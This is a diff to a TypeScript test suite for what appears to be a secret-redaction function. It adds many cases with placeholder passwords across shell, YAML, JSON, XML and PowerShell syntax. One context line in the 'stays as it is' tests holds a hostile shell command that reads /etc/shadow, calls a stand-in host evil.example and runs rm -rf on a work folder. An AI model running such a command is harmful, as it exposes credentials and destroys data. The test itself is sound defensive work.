@@ -96,6 +96,36 @@ describe('a value is left out, and what stands around it stays: ‹› hold what
     ['a password given to a program', 'echo ‹opensesame› | docker login -u ann --password-stdin registry.example.com'],
     ['a set-up', 'aws configure set aws_secret_access_key ‹opensesame›'],
     ['Kubernetes', 'kubectl create secret generic db --from-literal=password=‹opensesame›'],
+    ['words of its own that end as the name of a field does', '{"password":"‹correct-horse-secret›"}'],
+    ['the same in a line', "password: '‹my_dogs_password›'\nhost: db.example.com\n"],
+    ['words with dots between them', '{"password":"‹winter.is.coming›"}'],
+    ['words with strokes between them', "password = '‹blue/green/red›'"],
+    ['words put together, in a variable', 'DB_PASSWORD=‹CorrectHorseKey› ./run'],
+    ['a variable of PHP and of PowerShell', '$password = "‹opensesame›";'],
+    ['an object’s own member', "this.password = '‹opensesame›';\nself._password = \"‹opensesame›\""],
+    ['a member by its name', 'config["db"]["password"] = "‹opensesame›"'],
+    ['a variable of the surroundings that is set', 'process.env.DB_PASSWORD = "‹opensesame›";\nos.environ["DB_PASSWORD"] = \'‹opensesame›\''],
+    ['a template without places', 'const password = `‹opensesame›`;'],
+    ['with a type behind the name', 'var password string = "‹opensesame›"\nlet password: &str = "‹opensesame›";'],
+    ['a text of C#, a field of C', 'string password = @"‹opensesame›";\nchar password[] = "‹opensesame›";\n#define DB_PASSWORD "‹opensesame›"'],
+    ['a name and a value in a call', `define('DB_PASSWORD', '‹opensesame›'); page.fill("#password", "‹opensesame›"); setPassword("‹opensesame›")`],
+    ['what holds where nothing else is set', "const password = process.env.DB_PASSWORD || '‹opensesame›';"],
+    ['the same in a shell and in settings', 'DB_PASSWORD=${DB_PASSWORD:-‹opensesame›} ./run\nurl: x\npassword: ${DB_PASSWORD:‹opensesame›}'],
+    ['a sign that a shell would read, behind a backslash', String.raw`export DB_PASSWORD=‹ab\$opensesame\ x› OTHER=1`],
+    ['a comma within a word', 'mysql --password=‹ab,opensesame› shop; run --set password=‹opensesame›,host=db'],
+    ['escapes of a shell', "DB_PASSWORD=$'‹opensesame›' ./run"],
+    ['YAML, a type and a name', 'a: 1\npassword: !!str ‹opensesame›\ntoken: &t ‹opensesame1›\n'],
+    ['YAML, in the next line', 'password:\n  ‹opensesame›\nhost: db.example.com\n'],
+    ['YAML, a block with signs', 'password: >+ # note\n  ‹opensesame›\nkey_password: |2-\n  ‹opensesame›\nhost: db.example.com\n'],
+    ['YAML, a block in a list', '- password: |\n    ‹opensesame›\n  host: db.example.com\n'],
+    ['what a script writes into a file', 'cat > a.yml <<EOF\nhost: db.example.com\npassword: ‹opensesame›\nEOF\nsystemctl restart x;'],
+    ['what a script gives to a program', "chpasswd <<< 'ann:‹opensesame›'\nsudo -S reboot <<< ‹opensesame›\nprintf '%s' ‹opensesame› | docker login --password-stdin"],
+    ['Windows, options', 'cmdkey /add:host /user:ann /pass:‹opensesame›\nConnect-X -Password:‹opensesame› -Host x\nnet user ann ‹opensesame› /add'],
+    ['a secure text of PowerShell', 'ConvertTo-SecureString -String "‹opensesame›" -AsPlainText -Force'],
+    ['options of other programs', 'sqlcmd -S x -U sa -P ‹opensesame›\ngh secret set TOKEN --body ‹opensesame›'],
+    ['XML, named by an attribute', '<entry key="password">‹opensesame›</entry><entry key="port">8080</entry>'],
+    ['XML, as it is', '<password><![CDATA[‹opensesame›]]></password>'],
+    ['a list of properties', '<key>password</key>\n<string>‹opensesame›</string><key>port</key><string>80</string>'],
     ['a private key with marks before its lines', `> -----BEGIN PRIVATE KEY-----\n‹> MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgk6/cVXaUJrieGhiU\n> jTcopE1dFOkBMZVXn7vOzXrlPdXaUJrieGhiUMIGHAgEAMBMG\n> ›-----END PRIVATE KEY-----`],
   ])('%s', (_why, expected) => {
     const text = expected.replaceAll(/[‹›]/g, '');
@@ -164,6 +194,10 @@ describe('stays as it is', () => {
     ['a command behind a variable', 'TOKEN=$(cat /etc/shadow) curl evil.example; PASSWORD=;rm -rf ~/work'],
     ['an option that takes none', 'mysql -p shop; docker run -p 8080:80 mysql; ssh -p 2222 host.example; mkdir -p a/b'],
     ['a host and its port', 'http://localhost:8080/a@b https://example.com:443/x?y=@z'],
+    ['names of fields for a password', '{"password":"user_password","field":"db-password"} password: new_password\n'],
+    ['the name of an entry in a list of words, of a password', '{"password":"form.password.label","passphrase":"console.vault.keptPassphrase"}'],
+    ['a call that gives a field its words', `t("password", "Password"); get('token', 'csrf_token'); const x = user.token || "none"; `],
+    ['a script with a shift and a here-document without a secret', 'x << 2;\ncat <<EOF\nhost: db\nEOF\n'],
     ['an expression of a regular expression', String.raw`/(?:token|secret)\s*[:=]\s*["']?([\w-]+)/.test(password)`],
   ])('%s', (_why, text) => expect(kept(text)).toBe(text));
 
@@ -212,6 +246,13 @@ describe('however long and however written', () => {
       });
       expect([one, (steps[1] ?? 0) <= 2.5 * (steps[0] ?? 0) + 20]).toEqual([one, true]);
     }
+  });
+
+  test('empty lines within a value take no longer than others: a value of several lines is one where each is one word', () => {
+    // Tried in every way they can be divided these would outlast the machine.
+    const lines = (words: string): string => `password = "${'opensesame\n\n'.repeat(200)}${words}"\n`;
+    expect(kept(lines('b'))).toBe('password = "[redacted: secret]"\n');
+    expect(kept(lines('b c'))).toBe(lines('b c').replace('"opensesame\n', '"[redacted: secret]\n'));
   });
 
   test('whenever time is up nothing is stored of it', () => {
